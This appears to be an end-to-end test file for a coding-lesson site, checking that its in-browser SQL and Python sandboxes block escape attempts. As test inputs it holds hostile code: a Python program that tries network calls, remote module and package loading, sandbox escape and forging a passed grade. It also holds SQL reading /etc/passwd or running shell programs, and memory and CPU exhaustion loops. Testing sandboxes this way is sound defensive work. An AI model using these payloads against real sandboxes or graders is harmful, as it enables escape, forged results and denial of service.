import { absentNames, builtFiles, listen, runInFrame, sandboxProgram } from '../support/exercise-frames.ts'
import { expect, test } from '../support/test.ts'

const lesson = '/library/sql-basics'

/** A program in Python that tries every way out, also those of JavaScript, and to take all there is. `opened()` gives what did not fail. */
const hostilePython = (host: string) => `
import js, pyodide_js, socket, urllib.request
from pyodide.http import open_url, pyfetch

URL = 'http://${host}/'

def run_js(code):
    return js.Object.constructor('return ' + code)()

tries = {
    'urllib': lambda: urllib.request.urlopen(URL),
    'pyfetch': lambda: pyfetch(URL),
    'open_url': lambda: open_url(URL),
    'js': lambda: js.fetch(URL),
    'fetch': lambda: run_js(f"fetch('{URL}')"),
    'own': lambda: run_js("fetch('/api/library')"),
    'import': lambda: run_js(f"import('{URL}a.js')"),
    'request': lambda: run_js(f"new XMLHttpRequest().open('GET', '{URL}')"),
    'socket': lambda: run_js(f"new WebSocket('ws://${host}/')"),
    'worker': lambda: run_js("new Worker('data:text/javascript,')"),
    'database': lambda: run_js("indexedDB.open('one')"),
    'cache': lambda: run_js("caches.open('one')"),
    'forgery': lambda: run_js("postMessage({ test: { passed: true } })"),
    'close': lambda: run_js("close()"),
    'memory': lambda: run_js("new WebAssembly.Memory({ initial: 1 })"),
    'module': lambda: run_js("new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]))"),
}

async def opened():
    found = []
    for name, attempt in tries.items():
        try:
            answer = attempt()
            if hasattr(answer, '__await__'):
                await answer
            found.append(name)
        except BaseException:
            pass
    # These two do not say whether they failed.
    await pyodide_js.loadPackage(URL + 'a-1.0-py3-none-any.whl')
    try:
        socket.create_connection(tuple('${host}'.split(':')), 1).send(b'hello')
    except BaseException:
        pass
    return found

def forges():
    import ctypes
    # It evaluates within what runs Python, not around it.
    ctypes.CDLL(None).emscripten_run_script(b'send({ test: { passed: true } })')

def prints():
    while True:
        print('more')

def fills_memory():
    kept = []
    while True:
        kept.append(bytearray(2 ** 26))

def fills_files():
    while True:
        open('a', 'ab').write(b'x' * 2 ** 24)

def runs_forever():
    while True:
        pass
`

test('SQL runs in a database of the frame, which is ended when a query has no end', async ({ page }) => {
  test.setTimeout(240_000)
  const program = await sandboxProgram('sql')
  await page.goto(lesson)
  const judge = (code: string, tests: object[], limitMs = 20_000) =>
    runInFrame(page, {
      program,
      files: builtFiles({
        wasm: /^pglite-.*\.wasm$/,
        system: /^pglite-.*\.data$/,
        cluster: /^prepopulatedfs-.*\.tgz$/,
      }),
      code: { setup: 'create table numbers (n int)', code },
      tests,
      limitMs,
    })

  const found = await judge('insert into numbers values (2), (1); select n from numbers', [
    { rows: [[1], [2]] },
    { rows: [[2], [1]], ordered: true },
    { rows: [[2], [1]], ordered: true, before: 'insert into numbers values (3)' },
    { call: "select pg_read_file('/etc/passwd')", throws: '58P01' },
  ])
  expect(found.map((said) => (said as { test: { came: string; passed: boolean } }).test.passed)).toEqual([
    ...[true, true, false, true],
  ])

  for (const hostile of [
    "copy numbers to program 'ls'",
    'with recursive up as (select 1 as n union all select n + 1 from up) select count(*) from up',
    'do $$ begin loop end loop; end $$',
    "select repeat('x', 100000000) from generate_series(1, 1000)",
  ]) {
    const [said] = await judge(hostile, [{ rows: [[1]] }], 2_000)
    expect([hostile, said]).not.toMatchObject([hostile, { test: { passed: true } }])
  }
  expect(await judge('select 1', [{ rows: [[1]] }])).toMatchObject([{ test: { passed: true } }])
})

test.describe('a program in Python', () => {
  // The policy refuses the import, and says so.
  test.use({ expectedErrors: [/Content Security Policy|Refused to|violates/i] })

  test('finds no way out of its interpreter, and is stopped when it takes too much', async ({ page }) => {
    test.setTimeout(300_000)
    const program = await sandboxProgram('python')
    await page.goto(lesson)
    const elsewhere = await listen()
    const files = builtFiles({ wasm: /^pyodide\.asm-.*\.wasm$/, library: /^python_stdlib-.*\.zip$/ })
    const judge = (code: string, tests: object[], limitMs = 20_000) =>
      runInFrame(page, { program, files, code, tests, limitMs })

    const code = hostilePython(elsewhere.host)
    const asked = absentNames.filter((name) => name !== 'WebAssembly')
    // Each test begins anew, whatever the one before it did.
    const fresh = { call: 'open("a", "x").write("b")', gives: '1' }
    const found = await judge(code, [
      { call: 'opened()', gives: '[]' },
      { call: 'run_js("1 + 1")', gives: '2' },
      {
        call: `run_js("${JSON.stringify(asked).replaceAll('"', "'")}.filter((name) => name in self)").to_py()`,
        gives: '[]',
      },
      { call: "[name for name in dir(js) if name in ('fetch', 'self', 'globalThis', 'postMessage')]", gives: '[]' },
      { call: 'prints()', throws: 'RuntimeError' },
      { call: 'fills_memory()', throws: 'MemoryError' },
      ...[fresh, fresh],
      // Files lie in JavaScript's heap. An interpreter that finds it full dies, and can say nothing.
      { call: 'fills_files()', gives: '0' },
    ])
    expect(found.slice(0, -1)).toMatchObject(Array(8).fill({ test: { passed: true } }))
    expect(found.at(-1)).toEqual({ stopped: 'failed' })
    expect(await elsewhere.close()).toBe(0)

    // The interpreter dies of it, before anything is evaluated.
    expect(await judge(code, [{ call: 'forges()', gives: '1' }])).toEqual([{ stopped: 'failed' }])
    expect(await judge(code, [{ call: 'runs_forever()', gives: '0' }], 2_000)).toEqual([{ stopped: 'time' }])
  })
})
